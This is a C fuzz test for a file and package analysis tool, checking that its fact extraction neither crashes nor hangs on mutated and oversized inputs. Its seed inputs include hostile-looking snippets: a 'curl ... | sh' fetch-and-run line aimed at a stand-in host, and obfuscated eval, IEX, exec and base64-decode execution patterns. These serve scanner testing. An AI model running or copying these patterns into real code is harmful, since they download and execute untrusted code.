/* Thousands of broken inputs, the same ones on every machine: no crash, no hang, and facts that are well-formed whatever the
 * bytes are. PROBITY_MUTATIONS changes how many of each input. */
#include "facts_case.h"

#include "elf_case.h"
#include "prng.h"
#include "rpm_case.h"

enum { MUTATIONS = 2000, ROOM = 8192 };

static const struct {
	const char *name_class, *kind, *text;
} inputs[] = {
    {".js", "javascript",
     "// http://a.example.com\nconst x = require('./y'), r = /[/'\"]/g; `a ${b ? `c` : {}} "
     "https://b.example.com/${x}`;\nfetch('https:\\/\\/c.example.com')"},
    {".sh", "shell",
     "#!/bin/sh\n# c\ncat <<EOF\n# x\nEOF\ncurl -s http://a.example.com/x | sh; echo \"${#x} 'y'\" 'z\n' <<-'E2'\nE2\n"},
    {".py", "python",
     "import os, sys\nfrom .a import b\nx = '''# no''' # http://127.0.0.1:80/\n\"\"\"doc\"\"\"\ns.connect((h, 1))\n"},
    {".php", "php", "<p><!-- c --><?php // a ?> <?php $x = <<<EOT\n// b\nEOT;\n/* c */ shell_exec($x); # d\n?>"},
    {".ts", "typescript",
     "import a, {b as c} from 'child_process'; const {d: e} = require('fs'), k = '\\x41' + \"\\u{42}\\n\"; eval(atob('aGk=')); "
     "a['ex' + 'ec'](String.fromCharCode(104, 105), [1, ['x'].join('')]); (0, c)('y'.split('').reverse()); f(process.env.T)"},
    {".rb", "ruby", "x = %w(a) + ['6869'].pack('H*')\nsystem \"a #{b}\" 'c'; `id`; eval(\"aGk=\".unpack1('m')[0])\n"},
    {".ps1", "powershell", "$a = 'x' + \"y`n\"; IEX ([char]104 + $a); [Convert]::FromBase64String('aGk='); (New-Object N).D('z')\n"},
    {".py", "python",
     "from os import (system as s, a)\nimport base64 as b, c.d\ns(b.b64decode(r'aGk=')[::-1]); getattr(__import__('os'), 'x' 'y')('z')\n"
     "''.join(map(chr, [104, 105])); codecs.decode('uv', 'rot13').replace('a', 'b'); os.environ['T']\n"},
    {".lua", "lua", "--[==[ a ]==] x = [[b]] -- c\nos.execute('ls') [=[ ]=]\n"},
    {".pl", "perl", "=head1 A\n\nhttp://a.example.com\n\n=cut\nsystem('x'); # c\n=begin\n=end\n"},
    {".html", "html",
     "<!-- a --><a href=\"http://www.w3.org/1999/xhtml\">http://[2001:db8::1]:80/</a>http://user@b.example.co.uk."},
    {"control", "text",
     "Package: hello\nVersion: 1\nArchitecture: all\nDescription: a\n b\n .\n c\nDepends: d\n\nPackage: e\n"},
    {"md5sums", "text", "0123456789abcdef0123456789abcdef  usr/bin/a\n0123456789abcdef0123456789abcdef  ./../b c\n"},
    {"conffiles", "text", "/etc/a\nremove-on-upgrade /etc/b\n/etc/../c\n"},
    {"package.json", "json",
     "{\"name\":\"a\",\"version\":\"1\",\"author\":{\"name\":\"b\"},\"keywords\":[\"c\",\"d\"],\"scripts\":{\"postinstall\":"
     "\"e\"},\"dependencies\":{\"f\":\"1\"}}"},
    {"metadata", "text",
     "Metadata-Version: 2.1\nName: a\nVersion: 1\nClassifier: b\nRequires-Dist: c\nLicense: d\n e\n\nbody\n"},
    {"record", "csv", "a.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n\"b,\"\"c\"\"\",md5=x,1\nd/RECORD,,\n"},
    {"manifest.mf", "text", "Manifest-Version: 1.0\r\nImplementation-Title: a\r\n b\r\n\r\nName: c\r\n"},
    {".json", "json",
     "{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\",\"components\":[{\"name\":\"a\"},{\"name\":\"b\"}]}"},
    {".spdx", "text",
     "SPDXVersion: SPDX-2.3\nPackageName: a\n# SPDX-License-Identifier: MIT OR (GPL-2.0-only WITH x) AND Zlib\n"},
    {"copyright", "text",
     "Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nLicense: GPL-3+ or Expat, "
     "own\n\nLicense: x with y\n"},
    {"license", "text",
     "Permission is hereby granted, free of charge, to any person obtaining a copy subject to the following\n GNU GENERAL "
     "PUBLIC LICENSE Version 2, June 1991"},
    {"changelog", "text",
     "twin (1.0-1) unstable; urgency=low\n\n -- A <a@b.example.com>  Mon, 02 Jan 2012 10:00:00 +0000\n## [1] (2012-05-06)\n"
     "1.0.1 / 2013-05-06\n"},
    {"", "text", "Package: a\nStatus: install ok installed\nSource: b (1)\nVersion: 1:2\nMaintainer: c\n\nPackage: d\n"},
    {"", "text", "C:Q1abc=\nP:musl\nV:1.2.4-r2\no:musl\n\nP:b\nV:1\n"},
    {"pom.properties", "text", "version=2\ngroupId=a\nartifactId=b\n"},
    {"pom.xml", "xml", "<project><parent><groupId>a</groupId></parent><artifactId>b</artifactId><!-- c --><version>1</version></project>"},
    {".js", "javascript", "/*! jQuery v3.6.0 | (c) */ x('https://d3js.org v7.8.5');\n"},
    {".elf", "elf", NULL},
    {".rpm", "rpm", NULL},
    {".exe", "pe", NULL},
    {"", "macho", NULL},
};
enum { INPUTS = sizeof inputs / sizeof inputs[0] };

typedef struct bytes {
	uint8_t *data; /* of exactly n bytes, so that a read past the end is seen */
	size_t n;
} bytes;

static size_t make_pe(uint8_t *b)
{
	static const uint8_t optional[] = {0x0b, 0x02};
	memset(b, 0, 1024);
	memcpy(b, "MZ", 2);
	b[0x3c] = 0x80;
	memcpy(b + 0x80, "PE\0\0\x64\x86\x02", 7);
	b[0x80 + 20] = 240;
	b[0x80 + 22] = 0x22;
	memcpy(b + 0x98, optional, sizeof optional);
	b[0x98 + 57] = 0x20;
	b[0x98 + 70] = 0x40;
	b[0x98 + 108] = 16;
	for (int i = 0; i < 16; i++) {
		b[0x98 + 112 + 8 * i] = (uint8_t)(16 * i);
		b[0x98 + 113 + 8 * i] = 0x10;
		b[0x98 + 116 + 8 * i] = 0x70;
	}
	for (int i = 0; i < 2; i++) {
		uint8_t *s = b + 0x98 + 240 + 40 * i;
		memcpy(s, ".text", 5);
		s[9] = 2, s[13] = (uint8_t)(0x10 + i), s[17] = 1, s[21] = (uint8_t)(2 + i);
		s[39] = 0xe0;
	}
	return 1024;
}

static size_t make_macho(uint8_t *b)
{
	static const uint32_t words[] = {
	    0xfeedfacf, 0x01000007, 3, 2, 2,     72 + 24, 0x200085, 0, 0x19, 72, 0x45545f5f, 0x5458, 0,     0, 0, 1,
	    0x1000,     0,          0, 0, 0x400, 0,       7,        5, 0,    0,  0x80000028, 24,     0x100, 0, 0, 0};
	memcpy(b, words, sizeof words);
	memset(b + sizeof words, 0, 512);
	return sizeof words + 512;
}

static size_t original(size_t which, uint8_t room[ROOM])
{
	static const elf_case program = {.type = ET_DYN,
	                                 .interpreter = true,
	                                 .dynamic = true,
	                                 .relro = true,
	                                 .bind_now = true,
	                                 .stack = true,
	                                 .needed = "libc.so.6",
	                                 .rpath = "/a",
	                                 .runpath = "/b",
	                                 .imports = {"malloc", "connect", "__stack_chk_fail"},
	                                 .note = "{\"a\":\"b\"}"};
	if (inputs[which].text) {
		memcpy(room, inputs[which].text, strlen(inputs[which].text));
		return strlen(inputs[which].text);
	}
	if (strcmp(inputs[which].kind, "elf") == 0) {
		elf_file f;
		elf_make(&program, &f);
		memcpy(room, f.data, f.size);
		return f.size;
	}
	if (strcmp(inputs[which].kind, "rpm") == 0) {
		rpm_file f;
		rpm_make(&f);
		memcpy(room, f.data, f.size);
		return f.size;
	}
	return strcmp(inputs[which].kind, "pe") == 0 ? make_pe(room) : make_macho(room);
}

/* Flips, interesting numbers, pieces moved, repeated and cut off. */
static bytes mutate(prng *r, const uint8_t *from, size_t n)
{
	static const uint8_t interesting[] = {0x00, 0xff, 0x7f, 0x80, '\n', '"', '\'', '/',
	                                      '*',  '\\', '{',  '}',  '<',  ':', ' ',  0xc3};
	uint8_t room[ROOM];
	memcpy(room, from, n);
	for (int left = prng_in(r, 1, 6); left > 0 && n > 0; left--) {
		size_t at = prng_next(r) % n, len = 1 + prng_next(r) % 32;
		if (len > n - at)
			len = n - at;
		switch (prng_in(r, 0, 6)) {
		case 0:
			room[at] ^= (uint8_t)(1u << prng_in(r, 0, 7));
			break;
		case 1:
			room[at] = interesting[prng_next(r) % sizeof interesting];
			break;
		case 2:
			memset(room + at, interesting[prng_next(r) % 4], len);
			break;
		case 3:
			memmove(room + at, room + prng_next(r) % (n - len + 1), len);
			break;
		case 4:
			if (n + len < ROOM) {
				memmove(room + at + len, room + at, n - at);
				n += len;
			}
			break;
		case 5:
			memmove(room + at, room + at + len, n - at - len);
			n -= len;
			break;
		default:
			n = prng_chance(r, 20) ? at : n;
		}
	}
	bytes out = {malloc(n ? n : 1), n};
	assert_non_null(out.data);
	memcpy(out.data, room, n);
	return out;
}

static bool is_sorted(const json_t *list)
{
	for (size_t i = 1; i < json_array_size(list); i++)
		if (strcmp(json_string_value(json_array_get(list, i - 1)), json_string_value(json_array_get(list, i))) >= 0)
			return false;
	return true;
}

/* Canonical, sorted, the same again, and whole after its serial form: what map promises to reduce. */
static void check(void **state, size_t which, const bytes *b, bool twice)
{
	json_t *facts = facts_of(state, b->data, b->n, inputs[which].name_class, inputs[which].kind);
	assert_true(is_sorted(at(facts, "tags", NULL)) && json_array_size(at(facts, "tags", NULL)) >= 2);
	if (twice) {
		json_t *again = facts_of(state, b->data, b->n, inputs[which].name_class, inputs[which].kind);
		assert_true(json_equal(facts, again));
		json_decref(again);
	}
	pb_facts_keep(facts);
	char *text = pb_json_canonical(facts);
	assert_non_null(text);
	pb_error err = {0};
	json_t *parsed = pb_json_parse((pb_bytes){(uint8_t *)text, strlen(text)}, 1 << 26, "facts", &err);
	if (!parsed || !json_equal(parsed, facts))
		fail_msg("%s: %s", err.text, text);
	json_decref(parsed);
	json_decref(facts);
	free(text);
}

static void survives_mutations(void **state)
{
	const char *set = getenv("PROBITY_MUTATIONS");
	uint64_t n = set ? strtoull(set, NULL, 10) : MUTATIONS;

	for (size_t which = 0; which < INPUTS; which++) {
		uint8_t room[ROOM];
		size_t size = original(which, room);
		check(state, which, &(bytes){room, size}, true);
		for (uint64_t i = 0; i < n; i++) {
			prng r = prng_of_case(which + 1, i);
			bytes b = mutate(&r, room, size);
			check(state, which, &b, i % 50 == 0);
			free(b.data);
		}
	}
}

static bool is_cut(const json_t *facts, const char *name)
{
	json_t *item;
	size_t i;

	json_array_foreach (json_object_get(facts, "cut"), i, item)
		if (strcmp(json_string_value(item), name) == 0)
			return true;
	return false;
}

/* Inputs that ask for work that grows faster than they do. */
static void survives_heavy_inputs(void **state)
{
	static const struct {
		const char *kind, *name_class, *piece;
	} heavy[] = {
	    {"text", "", "://"},
	    {"text", "", "http://a.example.com/"},
	    {"binary-plist", "", "http://a.co"},
	    {"json", "package.json", "[{\"a\":"},
	    {"text", "md5sums", "0123456789abcdef0123456789abcdef  a\n"},
	    {"text", "control", "A: b\n c\n"},
	    {"csv", "record", "\"\"\"\"\"\""},
	    {"javascript", "", "require("},
	    {"javascript", "", "from '"},
	    {"python", "", "import a,"},
	    {"python", "", "\nimport a,a,a,a,a,a,a,a,a,a,a,a "},
	    {"javascript", "", "import a from "},
	    {"markdown", "changelog", "## 2012-05-0"},
	    {"text", "changelog", " -- a <b>  Mon, 02 Jan 2012 10:00:00 +0000\n"},
	    {"text", "copyright", "SPDX-License-Identifier: a "},
	    {"shell", "", "curl a\n"},
	    {"xml", "", "<!-"},
	    {"elf", "",
	     "\x7f"
	     "ELF\x02\x01\x01"},
	    {"pe", "", "MZ"},
	};
	enum { SIZE = 1 << 20 };
	uint8_t *text = malloc(SIZE);

	assert_non_null(text);
	for (size_t i = 0; i < sizeof heavy / sizeof heavy[0]; i++) {
		for (size_t k = 0, n = strlen(heavy[i].piece); k < SIZE; k++)
			text[k] = (uint8_t)heavy[i].piece[k % n];
		json_t *facts = facts_of(state, text, SIZE, heavy[i].name_class, heavy[i].kind);
		assert_non_null(at(facts, "tags", NULL));
		assert_false(is_cut(facts, "capabilities")); /* the pass of the patterns went to the end */
		json_decref(facts);
	}
	free(text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(survives_mutations),
	    cmocka_unit_test(survives_heavy_inputs),
	};
	return cmocka_run_group_tests(tests, facts_open, facts_close);
}
